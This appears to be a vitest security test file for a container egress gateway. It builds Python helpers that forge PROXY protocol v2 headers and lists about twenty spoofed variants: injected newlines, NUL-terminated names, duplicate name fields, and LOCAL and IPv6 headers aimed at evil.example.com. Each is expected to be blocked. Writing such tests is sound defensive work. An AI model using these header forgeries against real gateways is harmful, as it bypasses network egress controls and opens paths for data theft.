import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attack, type Attempt, createAttack } from '../fixtures/attack.ts';

/** The gateway's raw listener, which the forwarder in the container speaks to with a PROXY header; whoever is in the container may too. */
const header = `
def field(kind, value): return bytes([kind]) + struct.pack('>H', len(value)) + value
def proxy(name, port, target='127.77.0.9', *more, command=0x21, family=0x11):
    body = socket.inet_aton('127.0.0.1') + socket.inet_aton(target) + struct.pack('>HH', 40000, port) + (field(2, octets(name)) if name is not None else b'') + b''.join(more)
    return b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n' + bytes([command, family]) + struct.pack('>H', len(body)) + body
`;
function forged(what: string, head: string, more: Partial<Attempt> = {}): Attempt {
  return {
    what,
    code: `${header}\nseen = tcp(GATEWAY, 7777, ${head} + T.encode())`,
    // The same bytes, over the same port of the outsider's that the header names.
    control: `${header}\nseen = tcp(VICTIM, 22, ${head} + T.encode())`,
    ...more,
  };
}
const headers: readonly Attempt[] = [
  forged('a name that has no rule', `proxy(T + '.evil.example.com', 22)`, { recorded: 'not-listed' }),
  forged('a name that has no rule, in capitals', `proxy(T.upper() + '.EVIL.example.com.', 22)`, { recorded: 'not-listed' }),
  forged('a port that the name has no rule for', `proxy('good.example.com', 25)`),
  forged('a port of the web, which has listeners of its own', `proxy('good.example.com', 80)`),
  forged('port 0', `proxy('good.example.com', 0)`),
  forged('a name that carries a port', `proxy(T + '.evil.example.com:22', 22)`, { recorded: 'malformed' }),
  forged('a name that ends in a NUL', `proxy('good.example.com\\0.' + T, 22)`),
  forged('a name and an end of line', `proxy('good.example.com\\nallow ' + T, 22)`, { recorded: 'malformed' }),
  forged('a name that is an address', `proxy(VICTIM, 22)`),
  forged('no name', `proxy(None, 22)`),
  forged('an empty name', `proxy('', 22)`),
  forged('no name, and the address of somebody', `proxy(None, 22, VICTIM)`),
  forged('two names, the good one first', `proxy('good.example.com', 25, '127.77.0.9', field(2, b'evil.example.com'))`),
  forged('two names, the good one last', `proxy('evil.example.com', 22, '127.77.0.9', field(2, b'good.example.com:25'))`),
  forged('a header that says nothing (LOCAL)', `proxy('evil.example.com', 22, command=0x20)`),
  forged('a header of IPv6', `proxy('evil.example.com', 22, family=0x21)`),
  forged('a header of version 1', `('PROXY TCP4 10.1.1.1 %s 1 22\\r\\n' % VICTIM).encode()`),
  forged('a header within a header', `proxy('evil.example.com', 22) + proxy('good.example.com', 22)`),
  forged('no header', `b'SSH-2.0-x\\r\\n'`),
  forged('half a header', `proxy('evil.example.com', 22)[:20]`),
];

let attack: Attack;
beforeAll(async () => {
  attack = await createAttack();
  const { test, one } = attack;
  await test.wall.addRule(one.workspaceId, 'good.example.com:22', { allowPrivate: true, addedBy: 'user' });
  await attack.run(headers);
});
afterAll(() => attack?.end());

describe("the gateway's listener for other TCP believes no header that gives it", () => {
  it('(a name and port that have a rule are let out: the control of all that follows)', async () => {
    const heard = async (): Promise<boolean> => (await attack.good.heard()).some(({ via, text }) => via === 'tcp 22' && text.includes('allowed one'));
    await attack.run([{ what: 'allowed', code: `${header}\nseen = tcp(GATEWAY, 7777, proxy('good.example.com', 22) + b'allowed one')` }]);
    expect(await heard()).toBe(true);
  });
  it.each(headers.map(({ what }) => what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));

  it('nor has it let anything out but to the one host and port', async () => {
    const { test, one } = attack;
    const out = test.decisions(one).filter(({ verdict, protocol }) => verdict === 'allowed' && protocol === 'tcp');
    expect(new Set(out.map(({ host, port }) => `${host}:${port}`))).toEqual(new Set(['good.example.com:22']));
    expect((await attack.good.heard()).filter(({ via }) => via === 'tcp 25' || via === 'tcp 80')).toEqual([]);
  });
});
